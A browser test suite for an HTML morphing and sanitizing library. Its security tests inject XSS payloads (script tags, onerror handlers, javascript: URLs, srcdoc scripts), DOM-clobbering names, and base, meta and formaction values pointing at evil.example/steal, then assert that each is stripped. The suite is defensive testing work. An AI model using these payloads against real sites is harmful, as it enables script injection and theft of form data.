// The preview morph in real Chromium, as shipped: the morph.js loader and
// morph_bg.wasm that scripts/build made (npm/dist/morph/, or target/unshipped/
// while held back by its size budget), served on 127.0.0.1 with no CSP, so
// that anything the morph let through would run. morphdom's fixture pairs,
// every preserved state, outlines, the scheduler's coalescing and rate,
// stripping, and a randomized comparison against fresh renders.
//
// Each test gets a fresh page; its body runs in the page (page.js gives it
// `window.T`) and throws on a failed assertion.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, readdirSync, statSync } from 'node:fs';
import { join, relative } from 'node:path';
import { launch, startServer, root, artifacts } from './harness.mjs';

const dir = artifacts().morph.dir;
const pairsDir = join(root, 'tests/conformance/morphdom-autotest');
const pair = (name) => ['from', 'to'].map((side) => readFileSync(join(pairsDir, name, `${side}.html`), 'utf8'));
const PAIRS = readdirSync(pairsDir).filter((n) => statSync(join(pairsDir, n)).isDirectory());

let browser, site;
before(async () => {
  browser = await launch();
  site = await startServer({
    mounts: { '/morph/': relative(root, dir), '/t/': 'tests/browser/e2e/morph' },
    csp: () => null,
    pages: { '/': '<!doctype html><meta charset="utf-8"><title>morph</title><body><script type="module" src="/t/page.js"></script>' },
  });
});
after(async () => {
  await browser?.close();
  await site?.close();
});

/** Runs `body(arg)` in a fresh page once the morph is loaded; fails on page errors. */
async function inPage(body, arg) {
  const page = await browser.newPage();
  const errors = [];
  page.on('pageerror', (e) => errors.push(e.message));
  try {
    await page.goto(`${site.origin}/`);
    await page.waitForFunction(() => window.T, null, { timeout: 10_000 });
    const result = await page.evaluate(body, arg);
    assert.deepEqual(errors, []);
    return result;
  } finally {
    await page.close();
  }
}

// ---- morphdom's fixture pairs ----

test('all 41 morphdom pairs are here', () => assert.equal(PAIRS.length, 41));

// The form fixtures also check live properties, below.
const FORM = ['input-element-enabled', 'input-element-disabled', 'select-element', 'select-element-default', 'textarea'];
for (const name of PAIRS.filter((n) => !FORM.includes(n))) {
  test(`fixture ${name}`, () =>
    inPage(([name, from, to]) => T.checkFixture(name, from, to).remove(), [name, ...pair(name)]));
}

test('fixture input-element-enabled clears the disabled property', () =>
  inPage(([from, to]) => {
    const live = T.checkFixture('input-element-enabled', from, to);
    const input = live.firstElementChild;
    T.ok(!input.disabled, 'enabled');
    T.eq(input.value, 'Hello World');
    live.remove();
  }, pair('input-element-enabled')));

test('fixture input-element-disabled sets the disabled property', () =>
  inPage(([from, to]) => {
    const live = T.checkFixture('input-element-disabled', from, to);
    T.ok(live.firstElementChild.disabled, 'disabled');
    live.remove();
  }, pair('input-element-disabled')));

test('fixture select-element selects the new default', () =>
  inPage(([from, to]) => {
    const live = T.checkFixture('select-element', from, to);
    const select = live.querySelector('select');
    T.eq(select.value, 'value3');
    T.eq(select.selectedIndex, 2);
    live.remove();
  }, pair('select-element')));

test('fixture select-element-default keeps the first option', () =>
  inPage(([from, to]) => {
    const live = T.checkFixture('select-element-default', from, to);
    T.eq(live.querySelector('select').value, 'value1');
    live.remove();
  }, pair('select-element-default')));

test('fixture textarea takes the new text as its value', () =>
  inPage(([from, to]) => {
    const live = T.checkFixture('textarea', from, to);
    T.eq(live.firstElementChild.value, 'bar');
    live.remove();
  }, pair('textarea')));

// ---- preserved state ----

test('focus and caret in a text input survive', () =>
  inPage(() => {
    const live = T.mount('');
    T.morph(live, '<p>a</p><input id="fi-q" value="x">');
    const input = document.getElementById('fi-q');
    input.focus();
    input.value = 'hello';
    input.setSelectionRange(2, 4);
    T.morph(live, '<p>b</p><p>new</p><input id="fi-q" value="x" class="c">');
    T.ok(document.getElementById('fi-q') === input, 'the same input');
    T.ok(document.activeElement === input, 'still focused');
    T.eq(input.value, 'hello');
    T.eq([input.selectionStart, input.selectionEnd], [2, 4]);
    live.remove();
  }));

test('focus stays on a textarea whose section moves', () =>
  inPage(() => {
    const live = T.mount('');
    const page = (a, b) => `<section data-section-id="${a}"><h2>${a}</h2></section><section data-section-id="${b}"><h2>${b}</h2></section>`;
    T.morph(live, page('one', 'two'));
    live.querySelector('[data-section-id=two]').innerHTML = '<textarea id="ft-t">default</textarea>';
    const area = document.getElementById('ft-t');
    area.focus();
    area.value = 'typed';
    area.setSelectionRange(1, 3);
    T.morph(live, '<section data-section-id="two"><textarea id="ft-t">default</textarea></section><section data-section-id="one"><h2>one</h2></section>');
    T.ok(live.firstElementChild.contains(area), 'the section moved with the textarea');
    T.ok(document.activeElement === area, 'still focused');
    T.eq(area.value, 'typed');
    T.eq([area.selectionStart, area.selectionEnd], [1, 3]);
    live.remove();
  }));

// Matching stops at an old element holding the focus or a key a new node
// will claim (past it, it would be moved or parked); once the focused input
// and every key moved out of it, it is looked past like any other.
test('an element the focus and its keys moved out of no longer stops matching, one still holding the focus does', () =>
  inPage(() => {
    for (const key of ['', ' id="fm-i"']) {
      const live = T.mount(`<div><section id="fm-s"><input${key}></section></div><span>kept</span>`);
      const [input, span] = [live.querySelector('input'), live.querySelector('span')];
      input.focus();
      const html = `<article><section id="fm-s"><input${key}></section></article><span>kept</span>`;
      T.morph(live, html);
      T.ok(document.activeElement === input, `${key}: still focused`);
      T.ok(live.querySelector('article > section > input') === input, `${key}: the section moved with the input`);
      T.ok(live.querySelector('span') === span, `${key}: the span was recreated: the emptied div still stopped the search`);
      T.eq(live.innerHTML, html);
      live.remove();
    }
    // A key moving out of the focused element's parent leaves it holding the focus.
    const live = T.mount('<div><section id="fm-t">x</section><input></div><span>s</span>');
    const input = live.querySelector('input');
    input.focus();
    T.morph(live, '<article><section id="fm-t">x</section></article><span>s</span><div><input></div>');
    T.ok(input.isConnected && document.activeElement === input, 'the focused input was removed');
    T.eq(live.innerHTML, '<article><section id="fm-t">x</section></article><span>s</span><div><input></div>');
    live.remove();
  }));

test('the caret in a contenteditable survives a text change', () =>
  inPage(() => {
    const live = T.mount('');
    T.morph(live, '<div id="ce" contenteditable="true">hello world</div><p>x</p>');
    const ce = document.getElementById('ce');
    ce.focus();
    const text = ce.firstChild;
    document.getSelection().setBaseAndExtent(text, 3, text, 5);
    T.morph(live, '<div id="ce" contenteditable="true">hello there</div><p>y</p>');
    T.eq(ce.textContent, 'hello there');
    T.ok(document.activeElement === ce, 'still focused');
    const sel = document.getSelection();
    T.ok(sel.anchorNode === text, 'the same text node');
    T.eq([sel.anchorOffset, sel.focusOffset], [3, 5]);
    live.remove();
  }));

test('the window scroll survives', () =>
  inPage(() => {
    const live = T.mount('');
    const page = (order, n) => order.map((i) => `<div data-component-id="w${i}" style="height:100px">${i} ${n}</div>`).join('');
    const order = [...Array(40).keys()];
    T.morph(live, page(order, 0));
    window.scrollTo(0, 1200);
    const y = window.scrollY;
    T.ok(y > 1000, `scrolled to ${y}`);
    // Reversed order and new text: every component moves.
    T.morph(live, page(order.reverse(), 1));
    T.eq(window.scrollY, y);
    live.remove();
  }));

test('a scrolled container keeps its scroll when it moves', () =>
  inPage(() => {
    const live = T.mount('');
    const inner = [...Array(50).keys()].map((i) => `<p>line ${i}</p>`).join('');
    const box = `<div id="sc-box" style="height:80px;overflow:auto">${inner}</div>`;
    T.morph(live, `<div id="sc-a">a</div>${box}`);
    const b = document.getElementById('sc-box');
    b.scrollTop = 150;
    T.morph(live, `${box}<div id="sc-a">a changed</div>`);
    T.ok(live.firstElementChild === b, 'the box moved');
    T.eq(b.scrollTop, 150);
    live.remove();
  }));

test("details keep the person's choice until the server changes its own", () =>
  inPage(() => {
    const live = T.mount('');
    const page = (open, text) => `<details id="dt"${open ? ' open' : ''}><summary>more</summary>${text}</details>`;
    T.morph(live, page(false, 'a'));
    const details = document.getElementById('dt');
    details.setAttribute('open', ''); // the person opens it
    T.morph(live, page(false, 'b'));
    T.ok(details.hasAttribute('open'), "the person's opening stays");
    details.removeAttribute('open'); // and closes it again
    T.morph(live, page(true, 'c'));
    T.ok(details.hasAttribute('open'), 'the server opened it');
    details.removeAttribute('open'); // the person closes it
    T.morph(live, page(true, 'd'));
    T.ok(!details.hasAttribute('open'), "the person's closing stays");
    T.morph(live, page(false, 'e'));
    T.ok(!details.hasAttribute('open'), 'closed');
    T.ok(document.getElementById('dt') === details, 'the same element');
    live.remove();
  }));

test("the first morph of content it did not write keeps a details or dialog the person opened or closed (SPEC 12)", () =>
  inPage(() => {
    const markup = '<details id="fd"><summary>more</summary>a</details><details id="fc" open><summary>less</summary>b</details><dialog id="fg"><p>g</p></dialog>';
    const live = T.mount(markup); // written by the page, not by a morph
    const [opened, closed, dialog] = ['fd', 'fc', 'fg'].map((id) => document.getElementById(id));
    opened.open = true; // the person opens one
    closed.open = false; // and closes the other
    dialog.show();
    T.morph(live, markup);
    T.ok(opened.open, "the person's opening stays");
    T.ok(!closed.open, "the person's closing stays");
    T.ok(dialog.open, 'the dialog stays open');
    // From then on the server's own change shows.
    T.morph(live, markup.replace('<details id="fd">', '<details id="fd" open>').replace('>a<', '>a2<'));
    T.morph(live, markup);
    T.ok(!opened.open, 'the server closed it');
    live.remove();
  }));

test('a dialog the person opened stays open and modal', () =>
  inPage(() => {
    const live = T.mount('');
    const page = (text) => `<dialog id="dl"><p>${text}</p></dialog><p>${text}</p>`;
    T.morph(live, page('a'));
    const dialog = document.getElementById('dl');
    dialog.showModal();
    T.morph(live, page('b'));
    T.ok(dialog.open, 'open');
    T.ok(dialog.matches(':modal'), 'modal');
    T.eq(dialog.textContent, 'b');
    dialog.close();
    T.morph(live, '<dialog id="dl" open><p>c</p></dialog>');
    T.ok(dialog.open, 'the server opened it');
    T.morph(live, '<dialog id="dl"><p>c</p></dialog>');
    T.ok(!dialog.open, 'the server closed it');
    live.remove();
  }));

test('form values the person changed stay until the server default changes', () =>
  inPage(() => {
    const live = T.mount('');
    const on = (b, attr) => (b ? ` ${attr}` : '');
    const page = (text, check, radio, option, title) => `<input id="fv-text" value="${text}">
      <input id="fv-box" type="checkbox"${on(check, 'checked')}>
      <input id="fv-r1" type="radio" name="fv" value="1"${on(radio == '1', 'checked')}>
      <input id="fv-r2" type="radio" name="fv" value="2"${on(radio == '2', 'checked')}>
      <select id="fv-sel"><option value="a"${on(option == 'a', 'selected')}>A</option><option value="b"${on(option == 'b', 'selected')}>B</option><option value="c">C</option></select>
      <h3>${title}</h3>`;
    T.morph(live, page('server', false, '1', 'a', 'one'));
    const [text, box, r2, sel] = ['fv-text', 'fv-box', 'fv-r2', 'fv-sel'].map((id) => document.getElementById(id));
    // The person types, ticks, picks.
    text.value = 'typed';
    box.checked = true;
    r2.checked = true;
    sel.value = 'c';
    T.morph(live, page('server', false, '1', 'a', 'two'));
    T.eq(text.value, 'typed');
    T.ok(box.checked, 'ticked');
    T.ok(r2.checked, 'picked');
    T.eq(sel.value, 'c');
    // The server changes every default: the server wins.
    T.morph(live, page('fresh', true, '1', 'b', 'three'));
    T.eq(text.value, 'fresh');
    T.ok(box.checked, 'checked by the server');
    T.eq(sel.value, 'b');
    T.ok(r2.checked, 'the radio defaults did not change');
    T.morph(live, page('fresh', false, '2', 'b', 'four'));
    T.ok(!box.checked, 'unchecked by the server');
    T.ok(r2.checked, 'r2 checked by the server');
    T.ok(!document.getElementById('fv-r1').checked, 'r1 unchecked');
    live.remove();
  }));

test('iframes and media are neither reloaded nor touched', () =>
  inPage(() => {
    const live = T.mount('');
    const media = '<iframe id="mf-frame"></iframe><img id="mf-img" src="/mf-nothing.png" alt="">';
    T.morph(live, `<div id="mf-a">a</div><div id="mf-media">${media}</div>`);
    const frame = document.getElementById('mf-frame');
    frame.contentWindow.marker = 1;
    const watch = T.observe(document.getElementById('mf-media'));
    T.morph(live, `<div id="mf-media">${media}</div><div id="mf-a">b</div>`);
    T.eq(watch.takeRecords().length, 0, 'nothing inside was touched');
    T.eq(frame.contentWindow.marker, 1, 'the frame was not reloaded');
    live.remove();
  }));

test("a same-origin iframe's document is morphed in place", () =>
  inPage(() => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const inner = frame.contentDocument;
    const body = inner.body;
    T.morph(body, '<p id="if-a">a</p><ul><li id="if-1">1</li><li id="if-2">2</li></ul><details id="if-d"><summary>s</summary>x</details>');
    const two = inner.getElementById('if-2');
    const details = inner.getElementById('if-d');
    details.setAttribute('open', ''); // the person opens it
    T.morph(body, '<ul><li id="if-2">2!</li><li id="if-1">1</li><li id="if-3">3</li></ul><p id="if-a">a</p><details id="if-d"><summary>s</summary>y</details>');
    T.ok(inner.getElementById('if-2') === two, 'moved, not recreated');
    T.ok(details.hasAttribute('open'), 'still open');
    T.ok(inner.getElementById('if-3').ownerDocument === inner, "made in the frame's document");
    T.eq(body.textContent, '2!13asy', "the iframe's body took the new content");
    T.ok(document.getElementById('if-3') === null, 'nothing leaked into the parent page');
    frame.remove();
  }));

test('a keyless element moving past keyed content leaves that content where it is', () =>
  inPage(() => {
    const live = T.mount('');
    T.morph(live, '<p>intro</p><div class="w"><input id="kp-in" value="a"></div><h1>title</h1>');
    const wrapper = live.querySelector('.w');
    const input = document.getElementById('kp-in');
    input.value = 'typed';
    const watch = T.observe(wrapper);
    const html = '<h1>title</h1><div class="w"><input id="kp-in" value="a"></div>';
    T.morph(live, html);
    T.ok(live.querySelector('.w') === wrapper, 'the unkeyed wrapper of a keyed input was kept, not rebuilt around it');
    T.ok(document.getElementById('kp-in') === input, 'the input was kept');
    T.eq(input.value, 'typed');
    T.eq(watch.takeRecords().length, 0, 'nothing inside the wrapper was touched');
    const fresh = T.mount(html);
    T.eq(T.canonical(live), T.canonical(fresh));
    fresh.remove();
    live.remove();
  }));

test('a file input whose default changes does not break the morph', () =>
  inPage(() => {
    const live = T.mount('');
    T.morph(live, '<input id="fl" type="file" value="a"><p>1</p>');
    T.morph(live, '<input id="fl" type="file" value="b"><p>2</p>');
    T.eq(live.textContent, '2');
    T.eq(document.getElementById('fl').getAttribute('value'), 'b');
    live.remove();
  }));

// ---- outlines and following ----

test('changed elements are outlined for the configured time', () =>
  inPage(async () => {
    const live = T.mount('');
    T.morph(live, '<p id="ol-a">a</p><p id="ol-b">b</p>');
    T.morph(live, '<p id="ol-a">a</p><p id="ol-b" class="x">b</p><p id="ol-c">c</p>', { outline: 120 });
    const [a, b, c] = ['ol-a', 'ol-b', 'ol-c'].map((id) => document.getElementById(id));
    T.ok(!a.hasAttribute(T.OUTLINE), 'a did not change');
    T.ok(b.hasAttribute(T.OUTLINE), 'b changed');
    T.ok(c.hasAttribute(T.OUTLINE), 'c is new');
    // The outline is never taken for a server attribute to remove.
    T.morph(live, '<p id="ol-a">a</p><p id="ol-b" class="x">b</p><p id="ol-c">c</p>');
    T.ok(b.hasAttribute(T.OUTLINE), 'the outline stays');
    await T.sleep(250);
    T.ok(!b.hasAttribute(T.OUTLINE), "b's outline faded");
    T.ok(!c.hasAttribute(T.OUTLINE), "c's outline faded");
    live.remove();
  }));

test('follow scrolls the changed element into view', () =>
  inPage(() => {
    const live = T.mount('');
    const filler = [...Array(30).keys()].map((i) => `<div style="height:100px">${i}</div>`).join('');
    const page = (last) => `${filler}<p id="fw-last">${last}</p>`;
    T.morph(live, page('a'));
    window.scrollTo(0, 0);
    T.morph(live, page('b'), { follow: true });
    const rect = document.getElementById('fw-last').getBoundingClientRect();
    T.ok(rect.bottom <= innerHeight + 1 && rect.top >= 0, `${rect.top} ${innerHeight}`);
    live.remove();
  }));

// ---- nothing runs ----

test('scripts, handlers and javascript: URLs never run', () =>
  inPage(async () => {
    const live = T.mount('');
    const html = `<script>window.__morphRan = 1</script>
        <img id="xs-img" src="/xs-missing.png" onerror="window.__morphRan = 2" alt="">
        <a id="xs-a" href=" JavaScript:window.__morphRan = 3">a</a>
        <a id="xs-ok" href="/fine">ok</a>
        <form id="xs-form" action="javascript:x()"><button id="xs-btn" formaction="javascript:y()">b</button></form>
        <iframe id="xs-frame" srcdoc="<script>parent.__morphRan = 4</script>"></iframe>
        <svg><a id="xs-svg" xlink:href="javascript:z()"><set attributeName="href" to="javascript:q()"/></a><script>window.__morphRan = 5</script></svg>
        <template id="xs-tpl"><script>1</script><b onclick="x()">t</b></template>
        <div id="xs-div" onclick="x()" onmouseover="y()" title="t">d</div>`;
    T.morph(live, html);
    // The same holds for nodes that are morphed into, not inserted.
    T.morph(live, html);
    // And for whole documents, whose body is taken.
    const docLive = T.mount('');
    T.morph(docLive, '<!doctype html><html><head><script>window.__morphRan = 6</script></head><body onload="window.__morphRan = 7"><img src="/xs-doc.png" onerror="window.__morphRan = 8" alt=""></body></html>');
    T.eq(docLive.innerHTML, '<img src="/xs-doc.png" alt="">');
    const $ = (id) => document.getElementById(id);
    T.eq(live.querySelectorAll('script').length, 0, 'scripts');
    T.ok(!$('xs-img').hasAttribute('onerror'), 'onerror');
    T.ok(!$('xs-a').hasAttribute('href'), 'javascript: href');
    T.eq($('xs-ok').getAttribute('href'), '/fine');
    T.ok(!$('xs-form').hasAttribute('action'), 'action');
    T.ok(!$('xs-btn').hasAttribute('formaction'), 'formaction');
    T.ok(!$('xs-frame').hasAttribute('srcdoc'), 'srcdoc');
    T.ok(!$('xs-svg').hasAttribute('xlink:href'), 'xlink:href');
    T.eq(live.querySelectorAll('set').length, 0, 'set');
    T.eq($('xs-tpl').content.querySelectorAll('script,[onclick]').length, 0, 'template content');
    const div = $('xs-div');
    T.ok(!div.hasAttribute('onclick') && !div.hasAttribute('onmouseover'), 'handlers');
    T.eq(div.getAttribute('title'), 't');
    await T.sleep(300); // long enough for the image to fail and the frame to load
    T.eq(window.__morphRan, undefined, 'something ran');
    live.remove();
    docLive.remove();
  }));

// ---- nothing reaches outside the target ----

test('<base> and <meta> never reach the host: no rebase, no refresh, no referrer policy', () =>
  inPage(async () => {
    const live = T.mount('');
    const [href, base, referrer] = [location.href, document.baseURI, document.referrerPolicy];
    const html = `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=/navigated">
        <meta name="referrer" content="unsafe-url"><svg><base href="https://evil.example/"/></svg>
        <template id="bm-tpl"><base href="https://evil.example/"><meta http-equiv="refresh" content="0"></template><a id="bm-a" href="rel">a</a>`;
    T.morph(live, html);
    T.morph(live, html);
    T.morph(T.mount(''), `<!doctype html><html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=/navigated2"></head><body>b</body></html>`);
    T.eq(document.querySelectorAll('base, meta:not([charset])').length, 0, 'base or meta in the page');
    T.eq(document.getElementById('bm-tpl').content.querySelectorAll('base, meta').length, 0, 'in template content');
    T.eq(document.baseURI, base, 'the host was rebased');
    T.eq(document.getElementById('bm-a').href, new URL('rel', base).href);
    T.eq(document.referrerPolicy, referrer);
    await T.sleep(1500); // a refresh of 0 s would have navigated by now (and destroyed this context)
    T.eq(location.href, href, 'the host navigated');
  }));

test("form and form* attributes never reach a host form", () =>
  inPage(async () => {
    const host = T.mount('<form id="fm-host" action="/host-submit"><input name="secret" value="s"></form>');
    const submits = [];
    host.querySelector('form').addEventListener('submit', (e) => (submits.push(e.submitter?.id), e.preventDefault()));
    const live = T.mount('');
    T.morph(live, `<button id="fm-b" form="fm-host" formaction="https://evil.example/steal" formmethod="get" formtarget="_top">go</button>
        <input id="fm-i" form="fm-host" name="extra" value="x"><form id="fm-own" action="/own"><button id="fm-own-b" formaction="//evil.example/" formenctype="text/plain">own</button></form>`);
    const b = document.getElementById('fm-b');
    T.ok(b.form === null && document.getElementById('fm-i').form === null, 'a control joined the host form');
    T.eq([...live.querySelectorAll('*')].flatMap((e) => [...e.attributes].map((a) => a.name)).filter((n) => n.startsWith('form')), []);
    b.click();
    T.eq(submits, [], 'the host form was submitted');
    T.eq(new FormData(host.querySelector('form')).getAll('extra'), []);
    // A target inside a host form: incoming buttons lose their overrides there too.
    const inner = host.querySelector('form').appendChild(document.createElement('div'));
    T.morph(inner, '<button id="fm-in" formaction="https://evil.example/steal" formmethod="post">in</button>');
    T.ok(!document.getElementById('fm-in').hasAttribute('formaction') && !document.getElementById('fm-in').hasAttribute('formmethod'), 'formaction kept');
    T.eq(document.getElementById('fm-own').getAttribute('action'), '/own', "the incoming form's own action stays");
  }));

test('no id or name clobbers document or window, and the next morph still works', () =>
  inPage(() => {
    const live = T.mount('');
    const saved = ['querySelector', 'getElementById', 'evaluate', 'createElement', 'body', 'cookie', 'activeElement', 'getSelection', 'defaultView'].map((k) => [k, document[k]]);
    const html = `<img id="cl-img" name="querySelector" src="/cl.png" alt=""><form id="getElementById"></form><form name="evaluate"></form>
        <form name="createElement"></form><embed name="body"><object id="cookie"></object><iframe name="activeElement"></iframe><img name="getSelection" id="defaultView" alt="">
        <a id="addEventListener">a</a><div id="toString">d</div><p name="dispatchEvent">p</p><h2 id="cl-h2" name="intro">kept</h2><form id="cl-ok" name="subscribe"></form>`;
    T.morph(live, html);
    T.morph(live, html);
    for (const [k, v] of saved) T.ok(document[k] === v, `document.${k} was clobbered`);
    T.eq([typeof window.addEventListener, typeof window.toString, typeof window.dispatchEvent], ['function', 'function', 'function'], 'window clobbered');
    T.eq(document.getElementById('cl-h2').getAttribute('name'), 'intro', 'a harmless id and name stay');
    T.eq(document.getElementById('cl-ok').getAttribute('name'), 'subscribe', 'a harmless name stays');
    T.ok(!document.getElementById('cl-img').hasAttribute('name'));
    T.morph(live, '<p id="cl-after">next</p>');
    T.eq(live.innerHTML, '<p id="cl-after">next</p>', 'the next morph did nothing');
    // The same in a frame's document: its document and window are the ones judged.
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const fd = frame.contentDocument, fqs = fd.querySelector;
    T.morph(fd.body, '<form name="querySelector"></form><img name="createElement" alt="">');
    T.ok(fd.querySelector === fqs && typeof fd.createElement == 'function', "the frame's document was clobbered");
    T.morph(fd.body, '<p>again</p>');
    T.eq(fd.body.innerHTML, '<p>again</p>');
    frame.remove();
  }));

test('styles apply only where they cannot reach the host: a shadow root or a frame', () =>
  inPage(async () => {
    const probe = T.mount('<p id="st-probe">p</p>');
    const styles = () => [getComputedStyle(document.body).backgroundColor, getComputedStyle(document.getElementById('st-probe')).color];
    const before = styles();
    const html = `<style>body{background:rgb(1,2,3)} p{color:rgb(4,5,6)}</style><link rel="stylesheet" href="data:text/css,p%7Bcolor:rgb(7,8,9)%7D">
        <svg><style>p{color:rgb(10,11,12)}</style></svg><p class="st-p">x</p>`;
    const live = T.mount('');
    T.morph(live, html);
    T.morph(live, html);
    await T.sleep(200);
    T.eq(live.querySelectorAll('style, link').length, 0, 'a stylesheet in the host document');
    T.eq(styles(), before, 'the host was restyled');
    // In a shadow root the same HTML keeps its styles, scoped to it.
    const host = T.mount('');
    const inner = host.attachShadow({ mode: 'open' }).appendChild(document.createElement('div'));
    T.morph(inner, '<style>p{color:rgb(4,5,6)}</style><p>s</p>');
    T.eq(getComputedStyle(inner.querySelector('p')).color, 'rgb(4, 5, 6)', 'the shadow root lost its style');
    // In a frame's document (as Studio's preview iframe): kept, styling the frame alone.
    const frame = document.createElement('iframe');
    frame.setAttribute('sandbox', 'allow-same-origin');
    document.body.append(frame);
    await new Promise((r) => (frame.contentDocument?.readyState == 'complete' ? r() : frame.addEventListener('load', r, { once: true })));
    const fd = frame.contentDocument;
    T.morph(fd.body, '<style>body{background:rgb(1,2,3)}</style><p>f</p><base href="https://evil.example/">');
    T.eq(fd.querySelectorAll('style').length, 1, "the frame's style was dropped");
    T.eq(fd.querySelectorAll('base').length, 0, 'base is dropped everywhere');
    T.eq(getComputedStyle(fd.body).backgroundColor, 'rgb(1, 2, 3)');
    T.eq(styles(), before, 'the host was restyled');
    frame.remove();
    // A detached element is no shadow root: attached later, its styles would
    // restyle the page, so they are dropped.
    const detached = document.createElement('div');
    T.morph(detached, html);
    T.eq(detached.querySelectorAll('style, link').length, 0, 'a stylesheet in a detached element');
    document.body.append(detached);
    await T.sleep(100);
    T.eq(styles(), before, 'the host was restyled once it was attached');
    detached.remove();
  }));

test('outer: only the first element of the HTML replaces the target; nothing lands beside it', () =>
  inPage(() => {
    const live = T.mount('<section id="wrap"><p>old</p></section><p id="after">after</p>');
    const target = document.getElementById('wrap');
    T.morph(target, '<section id="wrap"><p>new</p></section><div id="sib">stolen?</div>text', { outer: true });
    T.eq(document.getElementById('sib'), null, 'a sibling reached outside the target');
    T.ok(document.getElementById('wrap') === target, 'the target is kept');
    T.eq(target.textContent, 'new');
    T.eq(live.innerHTML, '<section id="wrap"><p>new</p></section><p id="after">after</p>');
    live.remove();
  }));

// ---- work is linear in the size of the HTML, whatever its depth ----

// The work a morph makes the browser do, by shape, at N and at 2N: a step
// for each walk from a node to its parent, sibling or first child; each
// `isEqualNode` call weighs the elements of the subtree it may walk, each
// `contains` the ancestors it climbs. Kept under Chromium's 512-level
// nesting cap, so depth is what grows. The shapes: a deep change; an id at
// every level (keys × depth, were each element to list the keys below it);
// N keyed leaves under N keyless levels; a deep chain where each level drops
// a leading sibling, with focus at the bottom (a `contains` per level); a
// flat list whose tags all change (a scan of every old sibling per new child,
// were no scan remembered), and the same between comments (each matching an
// old one) before a keyed element, and before the focused input (both where
// the scans stop).
const work = (shapes) =>
  inPage((shapes) => {
    let weight = 0;
    const steps = (proto, name, cost) => {
      const d = Object.getOwnPropertyDescriptor(proto, name);
      if (d.get) Object.defineProperty(proto, name, { ...d, get() { weight += 1; return d.get.call(this); } });
      else proto[name] = function (...a) { weight += cost(this, ...a); return d.value.apply(this, a); };
    };
    for (const name of ['parentNode', 'nextSibling', 'firstChild']) steps(Node.prototype, name);
    steps(Node.prototype, 'isEqualNode', (n) => 1 + (n.nodeType == 1 ? n.getElementsByTagName('*').length : 0));
    steps(Node.prototype, 'contains', (n, o) => {
      let w = 1;
      for (; o && o !== n; o = o.parentElement) w++;
      return w;
    });
    const deep = (n, t, attr = () => '') => Array.from({ length: n }, (_, i) => `<div${attr(i)}>`).join('') + t + '</div>'.repeat(n);
    const leaves = (n, t) => Array.from({ length: n }, (_, i) => `<p id="k${i}">${t}</p>`).join('');
    const make = {
      deep: (n, t) => deep(n, t),
      'id at every level': (n, t) => deep(n, t, (i) => ` id="k${i}"`),
      'keyed leaves': (n, t) => deep(n, leaves(n, t)),
      'focus below dropped siblings': (n, t) => (t == 'a' ? '<div><span></span>'.repeat(n) : '<div>'.repeat(n)) + `<input>${t}` + '</div>'.repeat(n),
      'every tag changed': (n, t) => (t == 'a' ? '<p>a</p>' : '<span>b</span>').repeat(n),
      'tags changed between comments': (n, t) => (t == 'a' ? '<p>a</p><!---->' : '<span>b</span><!---->').repeat(n) + '<i id="z"></i>',
      'tags changed before the focus': (n, t) => (t == 'a' ? '<p>a</p>' : '<span>b</span>').repeat(n) + '<input>',
    };
    return shapes.map((shape) =>
      [200, 400].map((n) => {
        const live = T.mount(make[shape](n, 'a'));
        live.querySelector('input')?.focus();
        const html = make[shape](n, 'b');
        weight = 0;
        T.morph(live, html);
        const w = weight;
        T.eq(live.textContent, 'b'.repeat(live.querySelectorAll('p, span').length || 1), shape);
        T.ok(!live.querySelector('input') || document.activeElement === live.querySelector('input'), `${shape}: focus lost`);
        live.remove();
        return w;
      }),
    );
  }, shapes);

test('a morph costs work linear in the depth and the keys, not their product', async (t) => {
  const shapes = ['deep', 'id at every level', 'keyed leaves', 'focus below dropped siblings', 'every tag changed', 'tags changed between comments', 'tags changed before the focus'];
  const counts = await work(shapes);
  const slow = [];
  shapes.forEach((shape, i) => {
    const [n, n2] = counts[i];
    t.diagnostic(`${shape}: work ${n} at N, ${n2} at 2N`);
    if (n2 > 2.3 * n) slow.push(`${shape}: work ${n} at N, ${n2} at 2N`);
  });
  assert.deepEqual(slow, []);
});

test('no input makes it throw, and a bad call leaves the next one working', () =>
  inPage(() => {
    const live = T.mount('<p>kept</p>');
    for (const [target, html, options] of [[null, '<p>x</p>'], [undefined], [{}, '<p>x</p>'], [live, null], [live, 42, 7], [live, { toString: () => '<p>kept</p>' }, 'x'], [document, '<p>x</p>']]) {
      T.morph(target, html, options);
    }
    T.eq(live.innerHTML, '<p>kept</p>');
    for (const target of [null, {}, document.createTextNode('t')]) {
      const preview = new T.Preview(target, 'options');
      preview.update(null);
      preview.section(5, undefined);
      preview.section('k', '<section data-section-id="k">x</section>');
      T.eq(Array.isArray(preview.flush()), true);
    }
    T.morph(live, '<p>after</p>');
    T.eq(live.innerHTML, '<p>after</p>');
    live.remove();
  }));

// ---- the scheduler ----

test('updates in a burst coalesce and the latest wins', () =>
  inPage(async () => {
    const live = T.mount('');
    const [runs, onMorph] = T.recorder();
    const preview = new T.Preview(live, { onMorph });
    for (let i = 0; i < 10; i++) preview.update(T.sections([['a', String(i)]]));
    T.eq(runs.length, 1, 'the first update runs at once');
    T.eq(live.textContent, '0');
    await T.sleep(400);
    T.eq(runs.length, 2, 'the other nine became one morph');
    T.eq(live.textContent, '9');
    T.eq(runs.map(([, k]) => k), [['a'], ['a']]);
    live.remove();
  }));

test('nothing in the incoming HTML acts on the page\'s own elements: a label for one, an invoker, a named target', () =>
  inPage(() => {
    const host = document.createElement('div');
    host.innerHTML = '<button id="pg-btn">publish</button><dialog id="pg-dlg"></dialog><div popover id="pg-pop">p</div>';
    document.body.prepend(host);
    let clicks = 0;
    document.getElementById('pg-btn').addEventListener('click', () => clicks++);
    const live = T.mount('');
    T.morph(live, [
      '<label id="trap" for="pg-btn" style="position:fixed;inset:0;z-index:9">x</label>',
      '<button id="cmd" commandfor="pg-dlg" command="show-modal">open</button>',
      '<button id="pop" popovertarget="pg-pop">pop</button>',
      '<a id="named" href="#x" target="pg-frame">a</a><a id="blank" href="/x" target="_blank">b</a>',
      // A label for its own field is kept.
      '<label id="own" for="own-field">name</label><input id="own-field">',
    ].join(''));
    const at = (id) => document.getElementById(id);
    T.eq([at('trap').getAttribute('for'), at('cmd').hasAttribute('commandfor'), at('pop').hasAttribute('popovertarget')], [null, false, false]);
